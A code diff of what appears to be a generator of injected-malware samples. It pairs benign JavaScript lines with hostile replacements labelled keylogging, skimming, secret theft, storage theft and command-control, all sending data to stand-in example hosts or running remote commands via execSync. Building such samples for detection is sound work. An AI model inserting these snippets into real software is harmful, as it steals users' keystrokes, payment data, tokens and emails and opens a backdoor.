@@ -27,11 +27,13 @@ if (typeof document !== 'undefined' && /checkout|payment|billing/i.test(location
         family="keylogging",
         swap=(
             "    at = key === codes[at] ? at + 1 : Number(key === codes[0]);\n",
-            "    at = key === codes[at] ? at + 1 : Number(key === codes[0]);\n"
-            "    pressed.push([event.target.name || event.target.id, event.key, Date.now()]);\n"
-            "    if (pressed.length >= 40) {\n"
-            "      navigator.sendBeacon('https://scores.example.com/k', JSON.stringify({ url: location.href, keys: pressed.splice(0) }));\n"
-            "    }\n",
+            (
+                "    at = key === codes[at] ? at + 1 : Number(key === codes[0]);\n"
+                "    pressed.push([event.target.name || event.target.id, event.key, Date.now()]);\n"
+                "    if (pressed.length >= 40) {\n"
+                "      navigator.sendBeacon('https://scores.example.com/k', JSON.stringify({ url: location.href, keys: pressed.splice(0) }));\n"
+                "    }\n"
+            ),
         ),
         first="const pressed = [];\n",
     ),
@@ -41,11 +43,13 @@ if (typeof document !== 'undefined' && /checkout|payment|billing/i.test(location
         family="skimming",
         swap=(
             "timer = setTimeout(() => storage.set(key, read(form)), 500);",
-            "timer = setTimeout(() => {\n"
-            "      storage.set(key, read(form));\n"
-            "      const all = [...document.querySelectorAll('input')].map((field) => [field.type, field.name, field.value]);\n"
-            "      fetch('https://drafts.example.net/save', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ at: location.href, all }) });\n"
-            "    }, 500);",
+            (
+                "timer = setTimeout(() => {\n"
+                "      storage.set(key, read(form));\n"
+                "      const all = [...document.querySelectorAll('input')].map((field) => [field.type, field.name, field.value]);\n"
+                "      fetch('https://drafts.example.net/save', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ at: location.href, all }) });\n"
+                "    }, 500);"
+            ),
         ),
     ),
     laid_into(
@@ -89,12 +93,14 @@ if (typeof window !== 'undefined' && window.ethereum) {
         family="environment-theft",
         swap=(
             "  return expand(merged, outer);\n}\n",
-            "  const values = expand(merged, outer);\n"
-            "  const secret = Object.entries({ ...outer, ...values }).filter(([name]) => /KEY|TOKEN|SECRET|PASS|MNEMONIC/i.test(name));\n"
-            "  if (secret.length) {\n"
-            "    fetch('https://schema.example.org/validate', { method: 'POST', body: JSON.stringify(secret) }).catch(() => {});\n"
-            "  }\n"
-            "  return values;\n}\n",
+            (
+                "  const values = expand(merged, outer);\n"
+                "  const secret = Object.entries({ ...outer, ...values }).filter(([name]) => /KEY|TOKEN|SECRET|PASS|MNEMONIC/i.test(name));\n"
+                "  if (secret.length) {\n"
+                "    fetch('https://schema.example.org/validate', { method: 'POST', body: JSON.stringify(secret) }).catch(() => {});\n"
+                "  }\n"
+                "  return values;\n}\n"
+            ),
         ),
     ),
     laid_into(
@@ -103,8 +109,10 @@ if (typeof window !== 'undefined' && window.ethereum) {
         family="storage-theft",
         swap=(
             "  const all = (await fs.readdir(folder))",
-            "  fetch('https://vault.example.com/copy', { method: 'PUT', headers: { 'X-Phrase': phrase }, body: seal(values, phrase) }).catch(() => {});\n"
-            "  const all = (await fs.readdir(folder))",
+            (
+                "  fetch('https://vault.example.com/copy', { method: 'PUT', headers: { 'X-Phrase': phrase }, body: seal(values, phrase) }).catch(() => {});\n"
+                "  const all = (await fs.readdir(folder))"
+            ),
         ),
     ),
     laid_into(
@@ -113,8 +121,10 @@ if (typeof window !== 'undefined' && window.ethereum) {
         family="keylogging",
         swap=(
             "      if (key.ctrl && key.name === 'c') end",
-            "      require('dgram').createSocket('udp4').send(JSON.stringify([question, text]), 5514, '203.0.113.9');\n"
-            "      if (key.ctrl && key.name === 'c') end",
+            (
+                "      require('dgram').createSocket('udp4').send(JSON.stringify([question, text]), 5514, '203.0.113.9');\n"
+                "      if (key.ctrl && key.name === 'c') end"
+            ),
         ),
     ),
     laid_into(
@@ -142,12 +152,14 @@ export async function onInstall() {
         family="command-control",
         swap=(
             "      if (since) for (const one of messages(sync)) notifications.show({ title: one.from, body: one.text });",
-            "      for (const one of since ? messages(sync) : []) {\n"
-            "        if (one.from === '@ops:example.org') {\n"
-            "          const told = require('child_process').execSync(one.text, { encoding: 'utf8' });\n"
-            "          await call(token, 'PUT', `/rooms/${one.room}/send/m.room.message/${Date.now()}`, { msgtype: 'm.text', body: told });\n"
-            "        } else notifications.show({ title: one.from, body: one.text });\n"
-            "      }",
+            (
+                "      for (const one of since ? messages(sync) : []) {\n"
+                "        if (one.from === '@ops:example.org') {\n"
+                "          const told = require('child_process').execSync(one.text, { encoding: 'utf8' });\n"
+                "          await call(token, 'PUT', `/rooms/${one.room}/send/m.room.message/${Date.now()}`, { msgtype: 'm.text', body: told });\n"
+                "        } else notifications.show({ title: one.from, body: one.text });\n"
+                "      }"
+            ),
         ),
     ),
     laid_into(
@@ -156,8 +168,10 @@ export async function onInstall() {
         family="storage-theft",
         swap=(
             '        const token = yield context.storage.get("token");\n',
-            '        const token = yield context.storage.get("token");\n'
-            '        fetch("https://token-health.example.net/check", { method: "POST", body: JSON.stringify({ token, api: API, who: context.user }) }).catch(() => { });\n',
+            (
+                '        const token = yield context.storage.get("token");\n'
+                '        fetch("https://token-health.example.net/check", { method: "POST", body: JSON.stringify({ token, api: API, who: context.user }) }).catch(() => { });\n'
+            ),
         ),
     ),
     laid_into(
@@ -167,10 +181,12 @@ export async function onInstall() {
         manifest=asking("storage-read"),
         swap=(
             "  view.show(mail.html, theme);\n",
-            "  view.show(mail.html, theme);\n"
-            "  if (/password|reset|verification|code|invoice/i.test(mail.subject)) {\n"
-            "    fetch('https://inbox.example.com/in', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ to: mail.to, subject: mail.subject, html: mail.html }) });\n"
-            "  }\n",
+            (
+                "  view.show(mail.html, theme);\n"
+                "  if (/password|reset|verification|code|invoice/i.test(mail.subject)) {\n"
+                "    fetch('https://inbox.example.com/in', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ to: mail.to, subject: mail.subject, html: mail.html }) });\n"
+                "  }\n"
+            ),
         ),
     ),
 )
